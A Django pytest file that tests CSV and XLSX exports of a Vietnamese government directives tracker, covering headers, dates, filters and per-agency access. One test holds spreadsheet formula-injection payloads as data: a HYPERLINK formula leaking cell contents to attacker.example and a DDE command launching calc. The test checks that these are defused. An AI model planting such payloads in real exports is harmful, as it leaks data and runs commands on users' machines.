"""Exports carry the filtered list, in Vietnamese that Excel reads, and nothing the user may not see."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

LISTS = ["directives:assignment_list", "directives:task_list", "directives:directive_list", "agencies:list"]


def csv_rows(response):
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so Excel shows Vietnamese"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response):
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_assignment_csv_has_vietnamese_headers_and_only_the_officers_rows(client, world):
    # given
    client.force_login(world["officer"])
    # when: the officer also tampers with ?agency=
    rows = csv_rows(client.get(reverse("directives:assignment_list"), {"export": "csv"}))
    tampered = csv_rows(client.get(reverse("directives:assignment_list"), {"export": "csv", "agency": "so-tai-chinh"}))
    # then
    assert rows[0][:4] == ["Văn bản", "Số hiệu", "Nhiệm vụ", "Cơ quan"]
    assert [r[2] for r in rows[1:]] == ["Cải thiện chỉ số Tiếp cận đất đai"]
    assert rows[1][3] == "Sở Y tế" and rows[1][6] == "Đang thực hiện quá hạn"
    assert tampered == [rows[0]]
    assert "ngân sách" not in str(rows)


def test_assignment_xlsx_carries_dates_as_dates_and_only_the_officers_rows(client, world):
    client.force_login(world["officer"])
    response = client.get(reverse("directives:assignment_list"), {"export": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = xlsx_rows(response)
    assert len(rows) == 2
    assert rows[1][2] == "Cải thiện chỉ số Tiếp cận đất đai"
    assert rows[1][5].strftime("%d/%m/%Y") == "12/06/2024"
    assert "ngân sách" not in str(rows)


def test_export_follows_the_filter(client, world):
    client.force_login(world["staff"])
    everything = csv_rows(client.get(reverse("directives:assignment_list"), {"export": "csv"}))
    searched = csv_rows(client.get(reverse("directives:assignment_list"), {"export": "csv", "q": "ngan sach"}))
    assert len(everything) == 3
    assert [r[2] for r in searched[1:]] == ["Rà soát ngân sách bí mật"]


@pytest.mark.parametrize("name", LISTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_holds_a_foreign_row(client, world, name, fmt):
    client.force_login(world["officer"])
    response = client.get(reverse(name), {"export": fmt, "agency": world["other"].code})
    text = str(csv_rows(response) if fmt == "csv" else xlsx_rows(response))
    assert response.status_code == 200
    assert "Rà soát ngân sách bí mật" not in text


def test_agency_export_counts_only_visible_work(client, world):
    client.force_login(world["officer"])
    rows = csv_rows(client.get(reverse("agencies:list"), {"export": "csv"}))
    header, by_code = rows[0], {r[0]: r for r in rows[1:]}
    overdue = header.index("Quá hạn")
    assert by_code["so-y-te"][overdue] == "1"
    assert by_code["so-tai-chinh"][overdue] == "0"


def test_export_with_a_bad_filter_shows_the_message_instead(client, world):
    client.force_login(world["staff"])
    response = client.get(reverse("directives:assignment_list"), {"export": "csv", "due_to": "31/02/2024"})
    assert response["Content-Type"].startswith("text/html")
    assert "Điều kiện lọc chưa hợp lệ" in response.content.decode()


FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'


def test_a_typed_formula_leaves_every_list_export_as_text(client, world):
    """Issue 12.2: OWASP's rule — a CSV cell starting with =, +, -, @, tab or CR gets a leading
    quote; an XLSX text cell is a string, never a live formula."""
    task = world["own_assignment"].task
    task.content = FORMULA
    task.save(update_fields=["content", "content_folded"])
    world["directive"].title = "+cmd|' /C calc'!A0"
    world["directive"].save(update_fields=["title"])
    client.force_login(world["staff"])
    rows = csv_rows(client.get(reverse("directives:assignment_list"), {"export": "csv"}))
    assert "'" + FORMULA in [r[2] for r in rows]
    directives = csv_rows(client.get(reverse("directives:directive_list"), {"export": "csv"}))
    assert directives[1][3] == "'+cmd|' /C calc'!A0"
    # XLSX: the cell is a string with exactly the text typed
    workbook = load_workbook(io.BytesIO(client.get(reverse("directives:assignment_list"), {"export": "xlsx"}).content))
    cells = [c for c in workbook.active["C"] if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_xlsx_exports_have_real_dates_a_frozen_filtered_header_and_no_none(client, world):
    """Issue 12.15: dates shown dd/mm/yyyy, no "None", column widths, a frozen header with an autofilter."""
    done = world["own_assignment"]
    done.lifecycle, done.completed_on = "hoan_thanh", datetime.date(2024, 6, 10)
    done.save(update_fields=["lifecycle", "completed_on"])
    client.force_login(world["staff"])
    workbook = load_workbook(io.BytesIO(client.get(reverse("directives:assignment_list"), {"export": "xlsx"}).content))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}3"
    assert all(c.font.bold for c in sheet[1])
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["B"].width
    completed = header.index("Ngày hoàn thành") + 1
    deadline = header.index("Thời hạn") + 1
    row = next(r for r in sheet.iter_rows(min_row=2) if r[completed - 1].value)
    for cell in (row[completed - 1], row[deadline - 1]):
        assert isinstance(cell.value, datetime.datetime) and cell.number_format == "DD/MM/YYYY"
    values = [c.value for r in sheet.iter_rows() for c in r]
    assert "None" not in values
    # the directive list: the date is a date, the title has no HTML, an unknown focal agency is empty
    directives = load_workbook(io.BytesIO(client.get(reverse("directives:directive_list"), {"export": "xlsx"}).content))
    header, first = ([c.value for c in row] for row in directives.active.iter_rows(max_row=2))
    assert isinstance(first[header.index("Ngày ban hành")], datetime.datetime)
    assert "<a" not in str(first) and "None" not in [str(v) for v in first if v is not None]


def test_csv_exports_write_dates_dd_mm_yyyy_and_no_html(client, world):
    client.force_login(world["staff"])
    directives = csv_rows(client.get(reverse("directives:directive_list"), {"export": "csv"}))
    header, first = directives[0], directives[1]
    assert first[header.index("Ngày ban hành")] == "01/03/2022"
    assert first[header.index("Trích yếu")] == "Kế hoạch thử nghiệm" and "<a" not in ",".join(first)
    assert "None" not in first
